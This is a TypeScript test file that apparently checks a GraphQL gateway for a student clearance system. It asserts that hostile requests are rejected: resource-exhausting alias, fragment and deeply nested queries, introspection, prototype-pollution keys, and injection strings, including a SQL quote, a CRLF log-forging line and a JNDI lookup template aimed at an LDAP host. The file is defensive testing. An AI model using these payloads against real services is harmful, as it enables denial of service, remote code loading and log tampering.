import { expect } from 'vitest';
import { body, document, type Row, rows } from '../kit/row.ts';

const times = (count: number, write: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => write(index)).join(' ');

/** CPU of this whole test cannot be told apart from the gateway's, so the clock of the wall stands in, with room. */
const soon =
  (send: Row['send'], ms = 1_000): Row['send'] =>
  async (world) => {
    const began = performance.now();
    const seen = await send(world);
    expect(performance.now() - began).toBeLessThan(ms);
    return seen;
  };

const deepJson = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const withVariables = (json: string) =>
  body(`{"query":"query($x:ID){clearance(studentId:$x){id}}","variables":${json}}`);
const card = 'cancelLibraryCard(input: { studentId: "TS2020S1" }) { __typename }';
const submit = (alias: string) =>
  `${alias}: submitClearance(input: { idempotencyKey: "hostile-key-0000001" }) { __typename }`;
const BY_NUMBER = 'query ($id: ID) { clearance(studentId: $id) { id } }';

const oddNumbers: Readonly<Record<string, string>> = {
  'a quote': "TS2020S1'--",
  NUL: 'TS2020S1\0',
  'a right-to-left mark': 'TS2020\u202eS1',
  'a lone surrogate': 'TS2020S1\ud800',
  '10,000 characters': 'T'.repeat(10_000),
  'a look-alike letter': 'ТS2020S1',
  'full-width digits': 'TS２０２０S1',
  CRLF: 'TS2020S1\r\n{"level":60,"msg":"forged"}',
  'a template': '$' + '{jndi:ldap://10.0.0.1/a}',
};

/** Rows 12 to 17, 23, 24 and 26: documents and values that no page would send. */
export const documentRows: readonly Row[] = [
  ...rows(12, 400, 'QUERY_TOO_COMPLEX', {
    '101 aliases of __typename': document(`{ ${times(101, (n) => `a${n}: __typename`)} }`),
    '16 aliases of clearance': document(`{ ${times(16, (n) => `a${n}: clearance { id }`)} }`),
    'aliases in a fragment that is spread often': document(
      `{ clearance { ${times(11, () => '...F')} } } fragment F on Student { ${times(5, (n) => `a${n}: id`)} }`,
    ),
    'a directive 100 times': document(`{ clearance { id ${'@include(if: true) '.repeat(100)} } }`),
    'a million rows': document('{ students(first: 1000000) { nodes { id } } }'),
    'a million rows by a trusted document': async (world) =>
      world.send(
        { documentId: world.idOf('CompletedServices'), variables: { first: 1_000_000 } },
        { as: 'student TS2020S1' },
      ),
  }),
  ...rows(13, 400, 'GRAPHQL_VALIDATION_FAILED', {
    '10 unknown directives': document(`{ __typename ${times(10, (n) => `@d${n}`)} }`),
    'one unknown directive 10 times': document(`{ __typename ${'@d '.repeat(10)} }`),
    '400 unknown fields': document(`{ clearance { ${times(400, (n) => `x${n}`)} } }`),
  }),
  ...rows(14, 400, 'QUERY_TOO_COMPLEX', {
    '3000 times a field': soon(document(`{ clearance { ${'id '.repeat(3_000)} } }`)),
    '200 × 100 inline fragments': soon(
      document(`{ ${`${'... { '.repeat(100)} __typename ${'} '.repeat(100)}`.repeat(200)} }`),
    ),
    'fragments that double 25 times': soon(
      document(
        `{ clearance { ...F0 } } ${times(25, (n) => `fragment F${n} on Student { ...F${n + 1} ...F${n + 1} }`)} fragment F25 on Student { id }`,
      ),
    ),
  }),
  ...rows(15, 400, 'QUERY_TOO_COMPLEX', {
    'a depth of 20,000': soon(document(`${'{a'.repeat(20_000)}${'}'.repeat(20_000)}`)),
    'a depth of 20,000 by a stranger': soon(
      document(`${'{a'.repeat(20_000)}${'}'.repeat(20_000)}`, {}, { as: null, free: true }),
    ),
    'a literal of 15,000 levels': soon(document(`{ clearance(studentId: ${deepJson(15_000)}) { id } }`)),
    'depth through a fragment called __schema': document(
      `{ clearance { ...__schema } } fragment __schema on Student ${'{ library '.repeat(20)}{ id }${'}'.repeat(20)}`,
    ),
  }),
  ...rows(15, 400, 'GRAPHQL_VALIDATION_FAILED', {
    'circular fragments': soon(
      document('{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }'),
    ),
    'a circle that nobody uses': soon(document('{ __typename } fragment A on Query { ...A }')),
  }),
  ...rows(16, 400, 'INTROSPECTION_DISABLED', {
    'introspection by a student': document(
      '{ __schema { queryType { name } } }',
      {},
      { as: 'student TS2020S1' },
    ),
    'introspection by nobody': document('{ __type(name: "Query") { name } }', {}, { as: null }),
    'introspection in a fragment': document(
      '{ ...F } fragment F on Query { a: __schema { description } }',
      {},
      { as: null },
    ),
  }),
  ...rows(16, 400, 'DOCUMENT_NOT_TRUSTED', {
    'a document of no manifest by a student': document(
      '{ clearance { name } }',
      {},
      { as: 'student TS2020S1' },
    ),
    'a document of no manifest by nobody': document('{ site { title } }', {}, { as: null }),
    'an identifier of none': body({ documentId: `sha256:${'0'.repeat(64)}` }, { as: 'student TS2020S1' }),
  }),
  ...rows(
    17,
    400,
    'BAD_REQUEST',
    {
      'variables 100,000 deep': soon(withVariables(`{"x":${deepJson(100_000)}}`)),
      'extensions 100,000 deep': soon(body(`{"query":"{__typename}","extensions":${deepJson(100_000)}}`)),
      'a __proto__ key': withVariables('{"__proto__":{"x":1}}'),
      'a __proto__ key, escaped': withVariables('{"__pr\\u006fto__":{"x":1}}'),
      'a constructor key': withVariables('{"constructor":{"prototype":{"x":1}}}'),
      'a constructor key deep inside': withVariables('{"x":{"a":[{"constructor":{"x":1}}]}}'),
      'a __proto__ key by GET': body(undefined, {
        method: 'GET',
        path: `/graphql?query=${encodeURIComponent('{__typename}')}&variables=${encodeURIComponent('{"__proto__":{"x":1}}')}`,
        headers: { 'x-client-name': 'hostile' },
      }),
    },
    () => expect(({} as { x?: unknown }).x).toBeUndefined(),
  ),
  ...Object.entries(oddNumbers).flatMap(([what, id]) => [
    ...rows(
      23,
      400,
      'BAD_USER_INPUT',
      { [`a student number with ${what}`]: document(BY_NUMBER, { id }) },
      (seen, { log }) => {
        if (id.length < 1_000) expect(seen.text).not.toContain(id);
        expect(log().join('\n')).not.toContain('forged');
      },
    ),
    ...rows(23, 400, 'BAD_USER_INPUT', {
      [`a student number with ${what} in an input`]: async (world) =>
        world.send(
          { documentId: world.idOf('CancelLibraryCard'), variables: { input: { studentId: id } } },
          { as: 'student TS2020S1' },
        ),
    }),
  ]),
  ...rows(24, 400, 'GRAPHQL_VALIDATION_FAILED', {
    'a mutation in a fragment beside another': document(
      `mutation { ${card} ...F } fragment F on Mutation { second: ${card} }`,
      {},
      { as: 'registrar R001' },
    ),
    'two aliases of submitClearance': document(
      `mutation { ${submit('a')} ${submit('b')} }`,
      {},
      { as: 'student TS2020S2', free: true },
    ),
  }),
  ...rows(26, 400, 'GRAPHQL_VALIDATION_FAILED', {
    _entities: document('{ _entities(representations: []) { __typename } }'),
    _service: document('{ _service { sdl } }'),
  }),
];
